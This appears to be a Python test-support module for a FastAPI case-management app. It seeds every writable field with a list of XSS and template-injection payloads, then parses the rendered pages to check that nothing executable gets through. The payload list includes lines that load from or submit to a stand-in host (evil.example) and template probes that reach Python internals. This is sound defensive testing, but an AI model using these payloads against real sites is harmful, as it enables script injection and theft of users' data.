"""What an attack in a test is made of: every route, what stands in the records, what a page is made of."""

import html
import re
import uuid
from collections.abc import AsyncIterator, Iterator, Mapping
from contextlib import asynccontextmanager
from datetime import datetime
from html.parser import HTMLParser
from typing import Any

from fastapi import FastAPI, routing

from api.access import RULES
from api.house import House
from api.settings import Settings
from bot import relay
from tests.at_work import someone
from tests.conftest import running
from tests.talking import SHORTEST_REFERRAL
from tests.two_hubs import lives_in, objects
from waitingroom import (
    activities,
    caseload,
    complaints,
    data_requests,
    handoffs,
    helping,
    hooks,
    hubs,
    legal_holds,
    notes,
    staff,
    staff_tasks,
    tables,
    to_dos,
)
from waitingroom.columns import new_id
from waitingroom.data_requests import Kind as RequestKind
from waitingroom.database import Session
from waitingroom.handoffs import Handoff
from waitingroom.roles import OF_ROLE, Role
from waitingroom.staff_tasks import Kind as TaskKind

ABOUT_LOOKING = frozenset(
    {"audit_entry", "audit_head", "key_holder", "heartbeat", "rate", "sign_in_tries", "staff_sign_in"}
)
"""Tables that looking itself is noted in, or that the process itself writes while it runs."""
ONLY_WHEN = ("seen_at", "used_on", "last_used_on")
"""Columns that only say when somebody was here last."""
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x:x" onerror="alert(1)">',
    "<img/src/onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onload to=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "\"><iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=//evil.example>",
    "<object data=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href='javascript:alert(1)'>here</a>",
    "<a href=' &#14; javascript:alert(1)'>here</a>",
    "<a href='jav&#x09;ascript:alert(1)'>here</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>here</a>",
    "javascript:alert(1)//",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '" onmouseover="alert(1)',
    '" autofocus onfocus="alert(1)',
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "'-alert(1)-'",
    '"-alert(1)-"',
    "\\';alert(1);//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
)
"""What people and staff write who mean harm."""
WORKER = "Sam <img src=x onerror=alert(1)>"


@asynccontextmanager
async def at_rest(settings: Settings, **other: object) -> AsyncIterator[FastAPI]:
    """Run the application without its worker, so that nothing changes but what is asked for."""
    from api.app import create_app

    app = create_app(settings.model_copy(update=other), demo=True, work=False)
    async with running(app):
        yield app


def every_route(app: FastAPI) -> Iterator[tuple[routing.APIRoute, str, str]]:
    """Give every route there is, people's too, with its path and each of its methods."""
    for route, path, methods in _walk(app.routes):
        for method in sorted(methods - {"HEAD"}):
            yield route, path, method


def _walk(routes: Any) -> Iterator[tuple[Any, str, set[str]]]:
    for route in routes:
        if hasattr(route, "effective_route_contexts"):
            for context in route.effective_route_contexts():
                yield context.original_route, context.path_format, context.methods
        elif isinstance(route, routing.APIRoute):
            yield route, route.path_format, route.methods or set()


def role_for(name: str) -> Role:
    """Give a role that the table lets in to an operation."""
    needed = RULES[name].scopes
    order = (Role.LEAD, Role.LINK_WORKER, Role.ADMIN, Role.AUDITOR, Role.PROVIDER)
    return next(role for role in order if not needed or needed & OF_ROLE[role])


async def records(app: FastAPI) -> Mapping[str, str]:
    """Sum up every row of every table, but those that looking itself is noted in."""
    house: House = app.state.house
    names = [str(table.__tablename__) for table in tables.ALL]
    told = " - ".join(["to_jsonb(t)", *(f"'{column}'" for column in ONLY_WHEN)])
    async with house.database.transaction() as session:
        return {
            name: await session.driver.fetchval(
                f"SELECT count(*) || ' ' || coalesce(md5(string_agg(r, '' ORDER BY r)), '') "
                f'FROM (SELECT ({told})::text AS r FROM "{name}" t) rows'
            )
            for name in names
            if name not in ABOUT_LOOKING
        }


async def some_of(app: FastAPI, query: str, *values: object) -> Any:
    """Ask the records for one value."""
    house: House = app.state.house
    async with house.database.transaction() as session:
        return await session.driver.fetchval(query, *values)


class Made(HTMLParser):
    """What a page is made of: its tags, and what of it could run, load or send somewhere."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.wrong: list[str] = []
        self.words: list[str] = []
        self._within = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        told = {name: (value or "") for name, value in attrs}
        for name, value in told.items():
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "xlink:href", "background"}:
                self.wrong.append(f"<{tag} {name}={value!r}>")
            plain = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if name in {"href", "src", "action", "data"} and re.match(r"(javascript|data|vbscript):|//", plain):
                self.wrong.append(f"<{tag} {name}={value!r}>")
        if tag in {"style", "base", "object", "embed", "iframe", "video", "audio", "marquee", "math"}:
            self.wrong.append(f"<{tag}>")
        if tag == "script" and not told.get("src", "").startswith("/static/"):
            self.wrong.append(f"<script {told}>")
        if tag == "meta" and "http-equiv" in told:
            self.wrong.append(f"<meta {told}>")
        self._within = tag

    def handle_data(self, data: str) -> None:
        self.words.append(data)
        if self._within == "script" and data.strip():
            self.wrong.append(f"script says {data[:60]!r}")

    def handle_endtag(self, tag: str) -> None:
        self._within = ""

    @property
    def text(self) -> str:
        return "".join(self.words)


def token_in(page: str) -> str:
    """Read the token that a page's forms carry."""
    found = re.search(r'name="token" value="([^"]+)"', page)
    assert found is not None, page[:300]
    return html.unescape(found[1])


async def hostile_town(app: FastAPI) -> dict[str, str]:
    """Fill a hub with what people and staff write who mean harm; the parts of paths that lead to it, by name.

    Whoever works there is called as `WORKER` says.
    """
    house: House = app.state.house
    now = house.clock.now()
    async with house.database.transaction() as session:
        hub = await hubs.add(session, name="Nelson", areas=["BB9"], now=now)
        worker = await staff.welcome(session, name=WORKER, role=Role.LEAD, hub_id=hub.id, now=now)
        for number, words in enumerate(PAYLOADS[1:]):
            role = list(Role)[number % len(Role)]
            await staff.welcome(session, name=words, role=role, hub_id=hub.id, now=now)
            if number % 8 == 0:
                session.add(hubs.Hub(name=words, areas=[], created_at=now))
    one = await lives_in(app, hub, by=worker.id, name=PAYLOADS[7])
    things = await objects(app, one)
    await some_of(app, "UPDATE hub SET name = $1 WHERE id = $2", PAYLOADS[0], hub.id)
    person = someone(app)
    theirs = {"Ann": PAYLOADS[9], "Company in the evenings": PAYLOADS[1]}
    await person.says(*(theirs.get(text, text) for text in SHORTEST_REFERRAL), "PERSON", *PAYLOADS)
    async with house.database.transaction() as session:
        held = await handoffs.of_conversation(session, conversation_id=person.turns[-1].conversation_id)
        held = await caseload.pick_up(session, handoff=held, staff_id=worker.id, version=held.version, now=now)
        await _written(session, house, held, worker.id, now)
        things |= {"handoff_id": str(held.id), "hub_id": str(hub.id), "staff_id": str(worker.id)}
        for number, words in enumerate(PAYLOADS[:15]):
            at = f"https://cases.example.org/{number}"
            hook, _secret = await hooks.add(
                session,
                name=words[:60],
                address=at,
                kinds=hooks.ASKED_FOR,
                hub_id=None,
                staff_id=worker.id,
                now=now,
            )
            things["hook_id"] = str(hook.id)
    return things


async def _written(session: Session, house: House, held: Handoff, by: uuid.UUID, now: datetime) -> None:
    """Write everything that can be written, in every field, for one person."""
    talk = held.conversation_id
    referral = await caseload.referral_of(session, handoff=held)
    day, person = now.date(), referral.person_id
    colleague = await session.driver.fetchval("SELECT id FROM staff WHERE role = 'link_worker' LIMIT 1")
    for words in PAYLOADS:
        await notes.write(session, conversation_id=talk, staff_id=by, words=words, now=now)
        await to_dos.add(
            session, words=words, due_on=day, for_id=by, set_by=colleague, conversation_id=talk, now=now
        )
        await activities.log(
            session,
            referral_id=referral.id,
            staff_id=by,
            kind=activities.Kind.CALL,
            minutes=5,
            note=words,
            now=now,
        )
        await relay.write(session, house.desk, handoff=held, staff_id=by, text=words, now=now)
        help_id = new_id()
        session.add(
            helping.Help(
                id=help_id,
                conversation_id=talk,
                helper_id=by,
                asked_by=colleague,
                kind=helping.Kind.OTHER,
                status=helping.Status.ASKED,
                why=session.keys.seal(words, f"help:why:{help_id}"),
                asked_at=now,
            )
        )
    await complaints.make(session, conversation_id=talk, words="\n".join(PAYLOADS), due_on=day, now=now)
    await data_requests.ask(
        session, conversation_id=talk, kind=RequestKind.CORRECTION, words="\n".join(PAYLOADS), today=day, now=now
    )
    for words in PAYLOADS[:10]:
        await staff_tasks.add(session, referral_id=referral.id, kind=TaskKind.CALL, words=words, on=day, now=now)
    await legal_holds.place(session, person_id=person, reason=" ".join(PAYLOADS)[:900], staff_id=by, now=now)
